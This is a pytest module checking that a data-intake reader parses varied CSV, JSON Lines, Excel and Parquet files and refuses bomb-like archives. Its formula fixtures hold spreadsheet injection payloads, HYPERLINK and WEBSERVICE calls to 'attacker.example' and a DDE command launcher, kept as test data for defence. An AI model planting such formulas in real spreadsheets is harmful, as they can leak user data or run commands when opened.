"""Extract readers: every corpus file's dialect, header, values, line numbers and problems."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import logging
import random
import re
import struct
import zipfile
from dataclasses import dataclass, field, replace
from pathlib import Path
from types import SimpleNamespace
from xml.sax.saxutils import escape

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from data.intake import readers
from data.intake.loader import LINE_COLUMN, Problem
from data.intake.readers import Dialect, read_extract

CORPUS = Path(__file__).parent / "corpus"
CONSENT_HEADER = [
    "customer_id", "email", "first_name", "last_name", "country", "email_opt_in",
    "email_opt_in_date", "sms_opt_in", "sms_opt_in_date", "push_opt_in", "phone_opt_in",
    "opt_in_date", "opt_out_date", "consent_source", "consent_text_version", "ip_address",
    "double_opt_in_confirmed", "last_updated", "gdpr_region", "marketing_preferences",
    "lifetime_value", "segment",
]  # fmt: skip


def csv_dialect(
    rows: int, delimiter: str | None = ",", encoding: str = "utf-8", quotechar: str = '"'
) -> Dialect:
    return Dialect("csv", encoding, delimiter, quotechar, None, rows)


def sheet(name: str, rows: int) -> Dialect:
    return Dialect("xlsx", None, None, None, name, rows)


@dataclass
class Case:
    dialect: Dialect | None  # None: the file is refused, no table
    header: list[str]
    records: int  # data records in the file, counted by hand
    problems: list[tuple[int, str, str]] = field(default_factory=list)  # line, column, reason
    values: dict[str, list[str]] = field(default_factory=dict)  # whole columns, exactly
    lines: list[int] | None = None
    refused_in: str = "line"  # the unit of a refusal: "row" once zip or Parquet content is seen

    @property
    def unit(self) -> str:
        if self.dialect is None:
            return self.refused_in
        return "row" if self.dialect.kind in ("xlsx", "parquet") else "line"


def refused(reason: str, unit: str = "line") -> Case:
    return Case(None, [], 0, [(0, "", reason)], refused_in=unit)


TEXT_KINDS = "a CSV, JSON Lines, Excel (.xlsx) or Parquet file expected"
NOT_DATA = "not a CSV, JSON Lines, Excel (.xlsx) or Parquet file"
EMPTY = (0, "", "the file is empty (no header line)")


def dup(name: str, first: int, second: int) -> tuple[int, str, str]:
    return (
        1,
        name,
        f"column name appears twice (columns {first} and {second}; "
        f"the second is read as column_{second})",
    )


def blank(position: int, line: int = 1) -> tuple[int, str, str]:
    placeholder = f"column_{position}"
    reason = f"blank column name in the header (column {position}, read as {placeholder})"
    return (line, placeholder, reason)


CASES: dict[str, Case] = {
    # Encodings.
    "utf8_comma.csv": Case(
        csv_dialect(4),
        ["customer_id", "first_name", "last_name", "country", "email"],
        4,
        values={
            "customer_id": ["00123", "00124", "00125", "00126"],
            "first_name": ["Zoë", "José", "Łukasz", "美咲"],
            "last_name": ["Müller", "Niño", "Ærøskøbing", "佐藤"],
            "country": ["NA", "DE", "DK", "JP"],
        },
        lines=[2, 3, 4, 5],
    ),
    "utf8_bom_semicolon.csv": Case(
        csv_dialect(3, ";", "utf-8-sig"),
        ["customer_id", "name", "amount", "opt_in"],
        3,
        values={
            "customer_id": ["00123", "007", "NA"],
            "name": ["Zoë Müller", "François Lefèvre", "Åsa Öberg"],
            "amount": ["3,50", "12,00", "0,99"],
        },
        lines=[2, 3, 4],
    ),
    "utf16le_bom_tab.txt": Case(
        csv_dialect(2, "\t", "utf-16-le"),
        ["customer_id", "name", "city"],
        2,
        values={
            "customer_id": ["00123", "00124"],
            "name": ["Zoë Müller", "Renée Côté"],
            "city": ["Köln", "Montréal"],
        },
        lines=[2, 3],
    ),
    "utf16be_bom_comma.csv": Case(
        csv_dialect(2, ",", "utf-16-be"),
        ["customer_id", "name", "city"],
        2,
        values={
            "customer_id": ["00123", "0042"],
            "name": ["Søren Kierkegård", "Ana Conceição"],
            "city": ["København", "Évora"],
        },
    ),
    "utf16le_no_bom.csv": refused(
        "refused: UTF-16 text without a byte-order mark: save it as UTF-8"
    ),
    "cp1252_accents.csv": Case(
        csv_dialect(3, encoding="cp1252"),
        ["customer_id", "name", "city", "note"],
        3,
        values={
            "customer_id": ["00123", "00124", "00125"],
            "name": ["José Müller", "Zoë Ñandú", "François Œuvre"],
            "note": ["O’Brien’s friend", "price 12 €", "“quoted” – dash"],
        },
    ),
    "cp1252_undefined_byte.csv": Case(
        csv_dialect(2, encoding="cp1252"),
        ["customer_id", "name"],
        3,
        [(3, "", "bytes that are not valid Windows-1252 text; record not read")],
        {"customer_id": ["00123", "00125"], "name": ["René", "Zoë"]},
        [2, 4],
    ),
    "mixed_utf8_cp1252.csv": Case(
        csv_dialect(3),
        ["customer_id", "name"],
        4,
        [(4, "", "bytes that are not valid UTF-8 text; record not read")],
        {"customer_id": ["00123", "00124", "00126"], "name": ["Zoë Müller", "José Niño", "Łukasz"]},
        [2, 3, 5],
    ),
    # Delimiters, quoting, line structure.
    "pipe_delimited.txt": Case(
        csv_dialect(2, "|"),
        ["customer_id", "email", "opt_in"],
        2,
        values={"customer_id": ["00123", "00124"], "opt_in": ["Y", "N"]},
    ),
    "tab_separated.tsv": Case(
        csv_dialect(2, "\t"),
        ["customer_id", "email", "note"],
        2,
        values={"customer_id": ["00123", "00124"], "note": ['says "hi", often', ""]},
    ),
    "semicolon_decimal_comma.csv": Case(
        csv_dialect(2, ";"),
        ["customer_id", "revenue", "ordered_at"],
        2,
        values={"revenue": ["1.234,56", "0,99"], "ordered_at": ["05.01.2024", "06.01.2024"]},
    ),
    "single_quoted.csv": Case(
        csv_dialect(2, quotechar="'"),
        ["customer_id", "name", "city"],
        2,
        values={"customer_id": ["00123", "00124"], "name": ["Smith, John", "O'Neil, Ann"]},
    ),
    "quoted_delimiters.csv": Case(
        csv_dialect(3),
        ["customer_id", "name", "address"],
        3,
        values={
            "name": ["Smith, John", 'Doe "JD" Jane', ""],
            "address": ["1 Main St, Apt 2", "Rue de l'Église, 3", "|;\t,"],
        },
        lines=[2, 3, 4],
    ),
    "quoted_newlines.csv": Case(
        csv_dialect(4),
        ["customer_id", "name", "notes"],
        4,
        values={
            "customer_id": ["00123", "00124", "00125", "00126"],
            "notes": ["first line\nsecond line", "plain", "a\n\nb\nc", "last"],
        },
        lines=[2, 4, 5, 9],
    ),
    "crlf_line_endings.csv": Case(
        csv_dialect(2),
        ["customer_id", "name", "notes"],
        2,
        values={"notes": ["two\r\nlines", "one"]},
        lines=[2, 4],
    ),
    "cr_line_endings.csv": Case(
        csv_dialect(2),
        ["customer_id", "name"],
        2,
        values={"customer_id": ["00123", "00124"], "name": ["Ann", "Bob"]},
        lines=[2, 3],
    ),
    "no_trailing_newline.csv": Case(
        csv_dialect(2), ["customer_id", "name"], 2, values={"name": ["Ann", "Bob"]}, lines=[2, 3]
    ),
    "blank_lines.csv": Case(
        csv_dialect(3),
        ["customer_id", "name"],
        3,
        values={"customer_id": ["00123", "00124", "00125"]},
        lines=[3, 6, 8],
    ),
    "ragged_rows.csv": Case(
        csv_dialect(3),
        ["customer_id", "email", "opt_in"],
        5,
        [
            (3, "", "ragged row: expected 3 fields, found 2; not read"),
            (5, "", "ragged row: expected 3 fields, found 4; not read"),
        ],
        {"customer_id": ["00123", "00125", "00127"]},
        [2, 4, 6],
    ),
    # The open quote makes the rest of the file one record: two records in all.
    "unterminated_quote.csv": Case(
        csv_dialect(1),
        ["customer_id", "name"],
        2,
        [
            (
                3,
                "",
                "a quote opened in this record is never closed; the rest of the file was not read",
            )
        ],
        {"customer_id": ["00123"]},
        [2],
    ),
    "stray_quotes.csv": Case(
        csv_dialect(3),
        ["customer_id", "height", "name"],
        3,
        values={
            "height": ["5'10\"", "6'1\"", '5"9'],
            "name": ["Ann", 'Bob "the builder"', "Cid"],
        },
    ),
    "excel_sep_hint.csv": Case(
        csv_dialect(2, ";"),
        ["customer_id", "name,city"],
        2,
        values={"customer_id": ["00123", "0042"], "name,city": ["Smith, John", "Zoë"]},
        lines=[3, 5],
    ),
    "empty.csv": Case(Dialect("csv", "utf-8", None, None, None, 0), [], 0, [EMPTY]),
    "blank_only.csv": Case(Dialect("csv", "utf-8", None, None, None, 0), [], 0, [EMPTY]),
    "header_only.csv": Case(csv_dialect(0), ["customer_id", "email", "opt_in"], 0),
    "header_only_no_newline.csv": Case(csv_dialect(0, ";"), ["customer_id", "email"], 0),
    "duplicate_headers.csv": Case(
        csv_dialect(1),
        ["customer_id", "email", "Email", "customer_id"],
        1,
        [dup("Email", 2, 3), dup("customer_id", 1, 4)],
        {
            "customer_id": ["00123"],
            "email": ["a@example.org"],
            "column_3": ["b@example.org"],
            "column_4": ["00999"],
        },
    ),
    "blank_header.csv": Case(
        csv_dialect(2),
        ["customer_id", "", "name", ""],
        2,
        [blank(2), blank(4)],
        {"column_2": ["x", ""], "name": ["Ann", "Bob"], "column_4": ["y", ""]},
    ),
    "single_column.csv": Case(
        csv_dialect(3, None),
        ["full_name"],
        3,
        values={"full_name": ["Smith, John", "Doe, Jane", "Müller"]},
        lines=[2, 3, 4],
    ),
    # Values that tools like to change.
    "mixed_dates.csv": Case(
        csv_dialect(8),
        ["customer_id", "opt_in_date"],
        8,
        values={
            "opt_in_date": [
                "2024-01-05",
                "05/01/2024",
                "1/5/24",
                "5 Jan 2024",
                "20240105",
                "2024-01-05T10:00:00+02:00",
                "45296",
                "Jan 5th 2024 10am",
            ]
        },
    ),
    "leading_zeros_na.csv": Case(
        csv_dialect(6),
        ["customer_id", "country", "phone", "score"],
        6,
        values={
            "customer_id": ["00123", "0", "000", "NA", " 00125 ", "007"],
            "country": ["NA", "N/A", "null", "NULL", "nan", "None"],
            "phone": [
                "+4915112345678",
                "0049 151 123",
                "",
                "00441234",
                "1234567890123456789012",
                "(555) 010-0000",
            ],
            "score": ["1e5", "-0", "0x1F", "TRUE", "1.50", ""],
        },
    ),
    "formulas.csv": Case(
        csv_dialect(5),
        ["customer_id", "name", "website"],
        5,
        values={
            "name": [
                '=HYPERLINK("http://attacker.example/?d="&A2,"Details")',
                "+cmd|' /C calc'!A0",
                "-1+1",
                "@SUM(1+1)",
                "\t=1+1",
            ],
            "website": ["x", "y", "z", "w", "=1+1\r"],
        },
    ),
    # CRM-style exports.
    "crm_consent_export.csv": Case(
        csv_dialect(4),
        CONSENT_HEADER,
        4,
        values={
            "customer_id": ["00123", "00124", "00125", "0"],
            "last_name": ["Müller", "O'Neil", "Smith, Jr.", ""],
            "country": ["DE", "NA", "US", "GB"],
            "email_opt_in": ["Y", "yes", "N", "opt-out"],
            "sms_opt_in": ["N", "opted_in", "Y", ""],
            "opt_in_date": ["2024-01-05", "05/01/2024", "2023-12-31", ""],
            "segment": ["premium", "", "basic", "NA"],
        },
        lines=[2, 3, 4, 5],
    ),
    "crm_customer_list.csv": Case(
        csv_dialect(3),
        ["Customer ID", "E-mail", "cust_no", "created", "Full Name", "Phone", "Country"],
        3,
        values={
            "Customer ID": ["00123", "00124", "A-77"],
            "E-mail": ["Zoe@Example.org", "ann@example.org ", ""],
            "cust_no": ["000123", "000124", "077"],
            "created": ["2024-01-05", "5/1/2024", "2023-12-31 23:59"],
            "Country": ["NA", "IE", "GB"],
        },
    ),
    # JSON Lines.
    "events.jsonl": Case(
        Dialect("jsonl", "utf-8", None, None, None, 3),
        ["customer_id", "event", "amount", "n", "ok", "meta", "note", "tags", "name", "big", "e"],
        3,
        values={
            "customer_id": ["00123", "NA", "007"],
            "amount": ["1.10", "", ""],
            "n": ["7", "", ""],
            "ok": ["true", "false", ""],
            "meta": ['{"source":"web","ids":[1,2.50]}', "", ""],
            "note": ["", "", ""],
            "tags": ["", '["a","b"]', ""],
            "name": ["", 'Zoë ü "q"', ""],
            "big": ["", "", "12345678901234567890123"],
            "e": ["", "", "1e5"],
        },
        lines=[1, 3, 4],
    ),
    "bad_lines.jsonl": Case(
        Dialect("jsonl", "utf-8", None, None, None, 2),
        ["customer_id", "email", "Email", ""],
        5,
        [
            (2, "", "not a JSON object; not read"),
            (3, "", "not a JSON object; not read"),
            (4, "", "a key appears twice in the object; not read"),
            (6, "Email", dup("Email", 2, 3)[2]),
            blank(4, line=6),
        ],
        {
            "customer_id": ["00123", "00126"],
            "email": ["a@example.org", ""],
            "column_3": ["", "d@example.org"],
            "column_4": ["", "blank key"],
        },
        [1, 6],
    ),
    "json_document.json": refused(
        "refused: a JSON document, not JSON Lines (one object per line): "
        "export it as JSON Lines or CSV"
    ),
    # Spreadsheets.
    "typed_cells.xlsx": Case(
        sheet("Customers", 3),
        [
            "customer_id",
            "padded_id",
            "name",
            "amount",
            "whole",
            "third",
            "flag",
            "when",
            "error",
            "big",
            "negative",
        ],  # fmt: skip
        3,
        values={
            "customer_id": ["00123", "NA", ""],
            "padded_id": ["000123", "000007", ""],
            "name": ["Zoë", "", "Müller"],
            "amount": ["1.5", "0.25", ""],
            "whole": ["3", "1000000", ""],
            "third": ["0.3", "0.333333333333333", ""],
            "flag": ["true", "false", ""],
            "when": ["2024-01-05T13:45:30", "2024-02-29", ""],
            "error": ["#N/A", "", ""],
            "big": ["1.23456789012346e+16", "1e+20", ""],
            "negative": ["-42", "-0.5", ""],
        },
        lines=[2, 3, 4],
    ),
    "serial_dates.xlsx": Case(
        sheet("Dates", 2),
        ["customer_id", "iso", "day_first", "with_time", "general", "time_only", "one_second"],
        2,
        values={
            "iso": ["2024-01-01", "1900-02-28"],
            "day_first": ["2024-01-01", "1900-03-01"],
            "with_time": ["2024-01-01T18:00:00", "1900-01-01T06:00:00"],
            "general": ["45292", "1"],
            "time_only": ["12:00:00", "18:00:00"],
            "one_second": ["2024-01-01T00:00:01", "9999-12-31T00:00:00"],
        },
    ),
    "dates_1904.xlsx": Case(
        sheet("Sheet", 2),
        ["customer_id", "opt_in_date"],
        2,
        values={"opt_in_date": ["1904-01-02", "2024-01-01"]},
    ),
    "formulas.xlsx": Case(
        sheet("Sheet", 4),
        ["customer_id", "name", "computed", "text_formula"],
        4,
        values={
            "name": [
                '=HYPERLINK("http://attacker.example/?d="&A2,"Details")',
                "+cmd|' /C calc'!A0",
                "-1+1",
                "@SUM(1+1)",
            ],
            "computed": ["=1+1", "=SUM(A2:A3)", '=WEBSERVICE("http://attacker.example/")', "=1/0"],
            "text_formula": ["=1+1", "", "", ""],
        },
    ),
    "two_sheets.xlsx": Case(
        sheet("Consents", 2),
        ["customer_id", "email_opt_in"],
        2,
        [
            (
                0,
                "",
                'the workbook has 2 sheets with data; only the first, "Consents", was read '
                '(not read: "Archive")',
            )
        ],
        {"customer_id": ["00123", "00124"]},
    ),
    "first_sheet_empty.xlsx": Case(
        sheet("Data", 1), ["customer_id", "sms_opt_in"], 1, values={"sms_opt_in": ["yes"]}
    ),
    "empty_workbook.xlsx": Case(
        sheet("Empty", 0), [], 0, [(0, "", "the workbook is empty (no sheet has data)")]
    ),
    "crm_consent_export.xlsx": Case(
        sheet("Consent export", 4),
        CONSENT_HEADER,
        4,
        values={
            "customer_id": ["00123", "00124", "00125", "0"],
            "country": ["DE", "NA", "US", "GB"],
            "email_opt_in": ["Y", "yes", "N", "opt-out"],
            "email_opt_in_date": ["2024-01-05", "05/01/2024", "", ""],
            "segment": ["premium", "", "basic", "NA"],
        },
        lines=[2, 3, 4, 5],
    ),
    "header_below_blank_rows.xlsx": Case(
        sheet("Customers", 2),
        ["Customer ID", "E-mail", "cust_no", "created"],
        2,
        values={
            "Customer ID": ["00123", "00124"],
            "cust_no": ["000123", "000124"],
            "created": ["2024-01-05", "5/1/2024"],
        },
        lines=[4, 6],
    ),
    "blank_header.xlsx": Case(
        sheet("Sheet", 2),
        ["customer_id", "", "email", ""],
        2,
        [blank(2), blank(4)],
        {
            "column_2": ["x", ""],
            "email": ["a@example.org", "b@example.org"],
            "column_4": ["beyond", ""],
        },
    ),
    "wrong_dimension.xlsx": Case(
        sheet("Sheet", 2),
        ["customer_id", "email", "opt_in"],
        2,
        values={"email": ["a@example.org", "b@example.org"], "opt_in": ["Y", "N"]},
    ),
    # Parquet.
    "typed.parquet": Case(
        Dialect("parquet", None, None, None, None, 3),
        ["customer_id", "n", "ratio", "flag", "created", "day", "amount", "tags", "segment", "raw"],
        3,
        [(1, "raw", "binary values that are not text, shown as hexadecimal")],
        {
            "customer_id": ["00123", "NA", ""],
            "n": ["1", "", "-7"],
            "ratio": ["1", "2.5", ""],
            "flag": ["true", "false", ""],
            "created": ["2024-01-05 13:45:00.000000", "", "2023-12-31 00:00:00.000000"],
            "day": ["2024-01-05", "2024-02-29", ""],
            "amount": ["12.30", "", "-0.05"],
            "tags": ['["a","b"]', "[]", ""],
            "segment": ["premium", "basic", "premium"],
            "raw": ["0x6f6b", "0xfffe", ""],
        },
        [2, 3, 4],
    ),
    "truncated.parquet": refused("refused: not a readable Parquet file", "row"),
    # Refused before parsing.
    "renamed_png.csv": refused(f"refused: the content is a PNG image, {NOT_DATA}"),
    "renamed_exe.csv": refused(
        f"refused: the content is a Windows program (executable), {NOT_DATA}"
    ),
    # A gzip file is read as the file inside it (spec section 10).
    "gzipped.csv": Case(
        replace(csv_dialect(1), compressed=True),
        ["customer_id", "email"],
        1,
        values={"customer_id": ["00123"], "email": ["a@example.org"]},
    ),
    "legacy.xls": refused(
        "refused: the content is an old-format (.xls) or password-protected Excel file: "
        f"save it as .xlsx or CSV, {NOT_DATA}"
    ),
    "zip_not_workbook.xlsx": refused(
        "refused: a zip archive, not an Excel workbook: extract the file inside and upload it",
        "row",
    ),
    "zip_bomb.xlsx": refused(
        "spreadsheet refused: it would expand to 10.0 MB from 14.8 KB, one part 987 times its "
        "compressed size (possible decompression bomb)",
        "row",
    ),
    "xml_entity_bomb.xlsx": refused(
        "spreadsheet refused: it declares XML entities (possible XML bomb)", "row"
    ),
}


# Refusals of zip and Parquet content count rows, like the readers of those kinds.
def corpus_files() -> list[str]:
    return sorted(p.name for p in CORPUS.iterdir() if p.suffix not in (".py", ".md"))


def test_every_corpus_file_has_a_case_and_a_readme_line():
    assert len(corpus_files()) >= 40
    assert set(corpus_files()) == set(CASES)
    readme = (CORPUS / "README.md").read_text(encoding="utf-8")
    listed = set(re.findall(r"^\| `([^`]+)` \|", readme, re.MULTILINE))
    assert listed == set(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_corpus_file(name: str):
    case = CASES[name]
    result = read_extract(CORPUS / name, display_name=name)
    assert result.problems == [
        Problem(name, line, col, why, case.unit) for line, col, why in case.problems
    ]
    assert result.dialect == case.dialect
    assert result.header == case.header
    if case.dialect is None:
        assert result.table is None
        return
    table = result.table
    assert table is not None
    assert table.schema.field(LINE_COLUMN).type == pa.int64()
    assert all(f.type == pa.string() for f in table.schema if f.name != LINE_COLUMN)
    assert table.num_columns == len(case.header) + 1
    # Rows read plus records reported add up to the records in the file.
    assert table.num_rows == case.dialect.rows
    not_read = [p for p in result.problems if p.reason.endswith("not read")]
    assert table.num_rows + len(not_read) == case.records
    for column, expected in case.values.items():
        assert table.column(column).to_pylist() == expected, column
    if case.lines is not None:
        assert table.column(LINE_COLUMN).to_pylist() == case.lines
    else:
        lines = table.column(LINE_COLUMN).to_pylist()
        assert lines == sorted(set(lines))


@pytest.mark.parametrize("name", sorted(CASES))
def test_problems_never_quote_a_value(name: str):
    result = read_extract(CORPUS / name, display_name=name)
    reasons = " ".join(p.reason for p in result.problems)
    assert "SECRET" not in " ".join(str(p) for p in result.problems)
    if result.table is not None:
        for column in result.table.columns[:-1]:
            for value in column.to_pylist():
                assert len(value) < 6 or value not in reasons


def test_dialects_describe_themselves():
    assert csv_dialect(1204, ";", "utf-8-sig").describe() == (
        "CSV, semicolon-separated, UTF-8 with BOM, 1,204 rows"
    )
    assert (
        csv_dialect(1, "\t", "utf-16-le").describe()
        == "CSV, tab-separated, UTF-16 LE with BOM, 1 row"
    )
    assert csv_dialect(2, ",", "cp1252", "'").describe() == (
        "CSV, comma-separated, single-quoted, Windows-1252, 2 rows"
    )
    assert csv_dialect(3, None).describe() == "CSV, single column, UTF-8, 3 rows"
    assert CASES["empty.csv"].dialect.describe() == "CSV, UTF-8, 0 rows"
    assert sheet("Consents", 2).describe() == 'Excel workbook, sheet "Consents", 2 rows'
    assert Dialect("parquet", None, None, None, None, 0).describe() == "Parquet, 0 rows"
    assert Dialect("jsonl", "utf-8", None, None, None, 3).describe() == "JSON Lines, UTF-8, 3 rows"


# Limits.


def test_too_large_is_refused_before_reading():
    result = read_extract(CORPUS / "utf8_comma.csv", display_name="big.csv", max_bytes=100)
    assert result.table is None and result.dialect is None
    assert result.problems == [
        Problem("big.csv", 0, "", "refused: the file is 215 bytes, over the 100 bytes limit")
    ]


def test_workbook_over_the_expansion_limit_is_refused():
    result = read_extract(CORPUS / "typed_cells.xlsx", display_name="t.xlsx", max_uncompressed=MiB)
    assert result.table is not None
    result = read_extract(
        CORPUS / "typed_cells.xlsx", display_name="t.xlsx", max_uncompressed=10_000
    )
    assert result.table is None
    assert result.problems == [
        Problem(
            "t.xlsx",
            0,
            "",
            "spreadsheet refused: it would expand to 17.9 KB, over the 9.8 KB limit "
            "(possible decompression bomb)",
            "row",
        )
    ]


def test_the_zip_bomb_is_a_real_workbook_that_only_the_ratio_check_stops():
    result = read_extract(CORPUS / "zip_bomb.xlsx", max_ratio=10_000)
    assert result.problems == []
    assert result.table.column("customer_id").to_pylist() == ["00123"]


def test_zip_with_too_many_parts_is_refused_before_its_directory_is_read(tmp_path):
    path = tmp_path / "many.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(readers.MAX_ZIP_MEMBERS):
            archive.writestr(f"p/{i}", "")
    [problem] = read_extract(path, display_name="many.xlsx").problems
    assert problem.reason == "spreadsheet refused: more than 10,000 parts in the archive"


def test_parquet_over_the_expansion_limit_is_refused():
    result = read_extract(CORPUS / "typed.parquet", display_name="t.parquet", max_uncompressed=64)
    assert result.table is None
    assert result.problems == [
        Problem(
            "t.parquet",
            0,
            "",
            "refused: the Parquet file would expand to more than 64 bytes "
            "(possible decompression bomb)",
            "row",
        )
    ]


def test_parquet_rows_are_what_is_read_not_what_the_footer_claims():
    out = io.BytesIO()
    pq.write_table(pa.table({"customer_id": ["a", "b", "c"]}), out)
    data = out.getvalue()
    size = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - size
    # FileMetaData's num_rows (field 3, i64, zigzag 3 = 0x06) said to be 4 (0x08).
    at = data.index(b"\x16\x06", start)
    tampered = data[:at] + b"\x16\x08" + data[at + 2 :]
    assert pq.ParquetFile(io.BytesIO(tampered)).metadata.num_rows == 4
    result = readers.read_upload(tampered, "c.parquet")
    assert result.table.column("customer_id").to_pylist() == ["a", "b", "c"]
    assert result.table.column(LINE_COLUMN).to_pylist() == [2, 3, 4]
    assert result.dialect.rows == 3


def test_uuid_and_fixed_size_binary_parquet_columns_are_read():
    table = pa.table(
        {
            "id": pa.array([b"\x00" * 15 + b"\xff", None], pa.uuid()),
            "code": pa.array([b"AB", b"CD"], pa.binary(2)),
        }
    )
    out = io.BytesIO()
    pq.write_table(table, out)
    result = readers.read_upload(out.getvalue(), "ids.parquet")
    assert result.table.column("id").to_pylist() == ["0x" + "00" * 15 + "ff", ""]
    assert result.table.column("code").to_pylist() == ["AB", "CD"]


def test_a_column_type_arrow_cannot_cast_to_text_is_written_out_by_python():
    # No Parquet type read today lacks a cast to text (nested and extension types are handled
    # before); for one that does, such as an interval, each value is written with str().
    interval = pa.array([pa.MonthDayNano([1, 2, 3]), None], pa.month_day_nano_interval())
    with pytest.raises(pa.ArrowNotImplementedError):
        interval.cast(pa.string())
    text, as_hex = readers.arrow_text(interval)
    assert text.to_pylist() == ["MonthDayNano(months=1, days=2, nanoseconds=3)", ""]
    assert not as_hex


def _cell(value):
    return SimpleNamespace(value=value, number_format="[h]:mm:ss")


def test_negative_durations_in_a_workbook_keep_their_sign():
    assert readers._cell_text(_cell(-dt.timedelta(minutes=90))) == "-1:30:00"
    assert readers._cell_text(_cell(dt.timedelta(hours=26, seconds=5))) == "26:00:05"


def test_missing_files_and_folders_are_problems_not_errors(tmp_path):
    assert read_extract(tmp_path / "nope.csv").problems == [
        Problem(str(tmp_path / "nope.csv"), 0, "", "no such file")
    ]
    assert read_extract(tmp_path).problems == [Problem(str(tmp_path), 0, "", "not a regular file")]


# Encodings.


def test_undecodable_utf16_is_reported_by_line(tmp_path):
    data = "\ufeffid,name\n1,Ann\n2,".encode("utf-16-le") + b"\x00\xd8"
    data += "Bob\n3,Cid\n".encode("utf-16-le")
    path = tmp_path / "u.csv"
    path.write_bytes(data)
    result = read_extract(path, display_name="u.csv")
    assert result.dialect == csv_dialect(2, encoding="utf-16-le")
    assert result.table.column("name").to_pylist() == ["Ann", "Cid"]
    assert result.problems == [
        Problem("u.csv", 3, "", "bytes that are not valid UTF-16 LE text; record not read")
    ]


def test_a_file_of_bad_bytes_is_not_text(tmp_path):
    path = tmp_path / "noise.csv"
    path.write_bytes(bytes([0x81, 0x8D, 0x8F, 0x90, 0x9D]) * 300)
    assert read_extract(path, display_name="noise.csv").problems == [
        Problem("noise.csv", 0, "", f"refused: not text in a supported encoding ({TEXT_KINDS})")
    ]


# CSV details.


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


def test_reserved_and_case_duplicate_names_get_placeholders(tmp_path):
    path = write(tmp_path, "r.csv", "__line,Email,email ,column_3\n1,a,b,c\n")
    result = read_extract(path, display_name="r.csv")
    assert result.table.column_names == ["column_1", "Email", "column_3_", "column_3", LINE_COLUMN]
    assert result.header == ["__line", "Email", "email ", "column_3"]
    assert [p.column for p in result.problems] == ["__line", "email"]
    assert result.table.column("column_3_").to_pylist() == ["b"]


def test_blank_lines_before_the_header(tmp_path):
    result = read_extract(write(tmp_path, "b.csv", "\n\nid,name\n1,Ann\n"))
    assert result.header == ["id", "name"]
    assert result.table.column(LINE_COLUMN).to_pylist() == [4]


def test_a_bad_line_after_a_broken_record_is_still_counted(tmp_path):
    long_value = "x" * (csv.field_size_limit() + 1)
    text = f'id,note\n1,ok\n\n2,"{long_value}"\n3,fine\n'
    result = read_extract(write(tmp_path, "l.csv", text), display_name="l.csv")
    assert result.table.column("id").to_pylist() == ["1", "3"]
    assert result.table.column(LINE_COLUMN).to_pylist() == [2, 5]
    assert result.problems == [
        Problem("l.csv", 4, "", "a value is longer than 131,072 characters; not read")
    ]


def test_trailing_blank_lines_keep_the_fast_path(tmp_path):
    text = 'id,note\r\n1,"two\r\nlines"\r\n2,x\r\n\r\n\r\n'
    assert readers._parse_csv_fast(text, text.encode(), ",", '"') is not None
    result = read_extract(write(tmp_path, "t.csv", text))
    assert result.table.column(LINE_COLUMN).to_pylist() == [2, 4]
    assert result.problems == []


def test_rows_of_only_delimiters_are_blank_lines(tmp_path):
    text = "id,name\n1,a\n,\n , \n2,b\n"
    fast = readers._parse_csv_fast(text, text.encode(), ",", '"')
    assert fast is not None and fast[3].to_pylist() == [2, 5]
    result = read_extract(write(tmp_path, "d.csv", text))
    assert result.table.column("id").to_pylist() == ["1", "2"]
    assert result.problems == []


def test_a_header_over_two_lines(tmp_path):
    result = read_extract(write(tmp_path, "h.csv", 'id,"first\nname"\n1,Ann\n2,Bob\n'))
    assert result.header == ["id", "first\nname"]
    assert result.table.column(LINE_COLUMN).to_pylist() == [3, 4]


def test_other_zips_are_named(tmp_path):
    path = tmp_path / "sheet.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    assert read_extract(path, display_name="s.xlsx").problems == [
        Problem(
            "s.xlsx",
            0,
            "",
            "refused: an OpenDocument file, not an Excel workbook: save it as .xlsx or CSV",
            "row",
        )
    ]


def test_nothing_is_logged_about_values(caplog):
    caplog.set_level(logging.DEBUG)
    for name in CASES:
        read_extract(CORPUS / name)
    assert "SECRET" not in caplog.text


def random_value(rng: random.Random, lone_cr: bool) -> str:
    pieces = ["a", "Zoë", "00123", "NA", ",", ";", '"', "'", "\n", "\r\n", " ", "=1+1", ""]
    # csv.writer leaves a lone CR unquoted unless it is part of the line terminator.
    pieces += ["\r"] if lone_cr else []
    return "".join(rng.choice(pieces) for _ in range(rng.randint(0, 4)))


@pytest.mark.parametrize("seed", range(40))
def test_random_csv_round_trips_with_exact_lines(tmp_path, seed):
    """Whatever csv.writer produces comes back the same, each record on the line it starts."""
    rng = random.Random(seed)
    width = rng.randint(2, 5)
    header = [f"c{i}" for i in range(width)]
    ending = rng.choice(["\n", "\r\n"])
    records = [[random_value(rng, ending == "\r\n") for _ in header] for _ in range(30)]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=ending)
    writer.writerow(header)
    starts, line = [], 2
    for record in records:
        before = len(buffer.getvalue())
        writer.writerow(record)
        starts.append(line)
        # The record and its terminator: as many lines as line breaks (CR, LF or CRLF).
        line += len(re.findall(r"\r\n|\r|\n", buffer.getvalue()[before:]))
    path = tmp_path / "r.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    result = read_extract(path)
    assert result.problems == []
    assert result.header == header
    # Records of only empty or white-space values are blank lines: not rows, not problems.
    kept = [i for i, record in enumerate(records) if any(v.strip() for v in record)]
    records, starts = [records[i] for i in kept], [starts[i] for i in kept]
    columns = [c.to_pylist() for c in result.table.columns[:-1]]
    assert [list(row) for row in zip(*columns, strict=True)] == records
    assert result.table.column(LINE_COLUMN).to_pylist() == starts
    # The slow path, used when a file has ragged or blank lines, agrees.
    slow = readers._parse_csv_slow(buffer.getvalue(), ",", '"', "r.csv", set(), "utf-8")
    assert [c.to_pylist() for c in slow[2]] == columns
    assert slow[3].to_pylist() == starts


@pytest.mark.parametrize(
    "name",
    sorted(n for n, c in CASES.items() if c.dialect and c.dialect.kind == "csv" and c.dialect.rows),
)
def test_fast_and_slow_csv_paths_agree(name: str):
